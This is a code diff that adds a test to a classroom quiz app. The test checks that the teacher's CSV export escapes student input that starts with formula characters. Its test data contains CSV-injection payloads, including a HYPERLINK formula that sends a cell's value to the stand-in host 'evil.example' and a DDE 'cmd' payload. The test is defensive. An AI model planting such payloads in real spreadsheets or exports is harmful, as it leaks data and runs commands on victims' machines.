@@ -295,3 +295,18 @@ def test_the_class_page_answers_bad_input_with_a_message(tmp_path, monkeypatch, 
         at.button(key="FormSubmitter:class_join-Join").click().run()
         assert not at.exception and said in at.error[0].value, (code, nickname, [e.value for e in at.error])
     assert "_seat" not in at.session_state
+
+
+def test_no_cell_a_student_typed_reaches_the_csv_as_a_formula(tmp_path):
+    """A sentence, an option and a version that start with = + - @ tab or CR (a student's client sends
+    all three) reach the teacher's CSV as text: a leading apostrophe, read back by the csv module."""
+    url = f"sqlite:///{tmp_path / 'f.sqlite'}"
+    code, teacher = classes.start_class(DEFAULT_MODEL, TEXT, url=url)
+    seat = classes.join(code, "Eve", url=url)
+    evil = '=HYPERLINK("http://evil.example/?q="&A2,"click")'
+    options = ["+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tx"]
+    qid = f"{TAG}-spread"
+    classes.record_answer(seat.token, qid, [f"q_{qid}"], 0, options, False, [options[1]], "\rversion", evil, url=url)
+    (row,) = list(csv.reader(io.StringIO(report.answers_csv(classes.teacher_class(teacher, url=url)))))[1:]
+    assert not [c for c in row if c.startswith(report.FORMULA_START)], row
+    assert "'" + evil in row and "'" + options[0] in row and "'\rversion" in row
